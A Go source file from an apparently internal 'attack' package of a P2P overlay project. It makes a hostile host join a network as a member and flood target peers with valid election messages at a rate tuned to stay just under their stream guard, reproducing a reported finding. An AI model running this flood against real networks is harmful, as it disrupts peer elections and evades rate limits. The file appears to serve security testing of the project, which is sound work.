package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	pubsub "github.com/libp2p/go-libp2p-pubsub"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"github.com/superpeer/superpeer/classic"
	"github.com/superpeer/superpeer/classic/pb"
	"github.com/superpeer/superpeer/dhtselect"
	"github.com/superpeer/superpeer/gossip"
)

// The flood of election messages (issue 19, finding 1) is an attack of
// valid messages from a member: each is what an honest member may send,
// only too many. So Member and ElectionFlood encode them with the
// overlay's own encoders (gossip.Announcement, classic/pb), which are the
// wire format's definition, rather than by hand as Frame does for
// malformed frames.

// Member makes a hostile host a member of an overlay network: it joins
// the network's membership topic over GossipSub and announces itself
// every interval, signed by its own key, as an ordinary member of its
// cluster at k. The overlay's nodes take it into their views, so it is a
// member of the cluster its key falls in, and their election machines
// take its messages (they drop those of non-members). It runs no
// election of its own and answers nothing: whatever it sends is its
// attack's (see ElectionFlood).
type Member struct {
	h      host.Host
	ps     *pubsub.PubSub
	topic  *pubsub.Topic
	cancel context.CancelFunc
	done   chan struct{}
}

// JoinAsMember starts announcing h on network's membership topic every
// interval, as a member at k (its cluster key follows from its ID, as the
// validators check). Connect h to some of the network's nodes first (or
// after: the announcements go out every interval). Close stops it.
func JoinAsMember(ctx context.Context, h host.Host, network string, k int, interval time.Duration) (*Member, error) {
	if interval <= 0 || k < 0 || k > dhtselect.MaxK {
		return nil, fmt.Errorf("attack: JoinAsMember: interval %v, k %d: want an interval > 0 and k in [0, %d]", interval, k, dhtselect.MaxK)
	}
	ctx, cancel := context.WithCancel(ctx)
	ps, err := pubsub.NewGossipSub(ctx, h)
	if err != nil {
		cancel()
		return nil, fmt.Errorf("attack: gossipsub: %w", err)
	}
	topic, err := ps.Join(gossip.MembershipTopic(network))
	if err != nil {
		cancel()
		return nil, fmt.Errorf("attack: join the membership topic: %w", err)
	}
	m := &Member{h: h, ps: ps, topic: topic, cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(m.done)
		t := time.NewTicker(interval)
		defer t.Stop()
		for {
			a := gossip.Announcement{ID: h.ID(), Addrs: h.Addrs(), K: k, ClusterKey: dhtselect.KeyOf(h.ID()).Cluster(k),
				Seq: uint64(time.Now().UnixNano())}
			if data, err := a.Encode(); err == nil {
				_ = topic.Publish(ctx, data)
			}
			select {
			case <-ctx.Done():
				return
			case <-t.C:
			}
		}
	}()
	return m, nil
}

// Peers returns the peers h shares the membership topic with.
func (m *Member) Peers() []peer.ID { return m.topic.ListPeers() }

// Close stops announcing and leaves the topic.
func (m *Member) Close() error {
	m.cancel()
	<-m.done
	return m.topic.Close()
}

// FloodStats counts an ElectionFlood's messages: Sent were written on an
// open stream, Refused found no stream (the target refused or reset it,
// or banned the attacker and closed the connection).
type FloodStats struct {
	Sent, Refused atomic.Uint64
}

// ElectionFlood sends every target the election message msg (To set to
// the target; From is the stream's, the attacker's authenticated ID)
// rate times a second, one stream each as the overlay's own election
// messages go, until ctx ends; the returned stats count them as they go,
// and wait blocks until the flood has stopped. With msg an ELECTION from
// a member of the targets' cluster ranked below them, it is issue 19's
// finding 1: at 45 a second it stays under a peer's guard (50 streams a
// second, a burst of 100), and each message is valid.
func ElectionFlood(ctx context.Context, h host.Host, network string, targets []peer.ID, rate float64, msg classic.Message) (stats *FloodStats, wait func()) {
	stats = &FloodStats{}
	proto := Protocol(network, "election")
	every := time.Duration(float64(time.Second) / rate)
	var wg sync.WaitGroup
	for _, to := range targets {
		m := msg
		m.To = classic.ID(to)
		data, err := pb.Marshal(m)
		if err != nil {
			stats.Refused.Add(1)
			continue
		}
		frame := append(binary.AppendUvarint(nil, uint64(len(data))), data...)
		wg.Add(1)
		go func() {
			defer wg.Done()
			t := time.NewTicker(every)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				if sendElection(ctx, h, to, proto, frame) {
					stats.Sent.Add(1)
				} else {
					stats.Refused.Add(1)
				}
			}
		}()
	}
	return stats, wg.Wait
}

// sendElection writes one election frame on a new stream to p, within
// a second, and reports whether it went out.
func sendElection(ctx context.Context, h host.Host, p peer.ID, proto protocol.ID, frame []byte) bool {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, p, proto)
	if err != nil {
		return false
	}
	_ = s.SetDeadline(time.Now().Add(time.Second))
	if _, err := s.Write(frame); err != nil {
		_ = s.Reset()
		return false
	}
	return s.Close() == nil
}
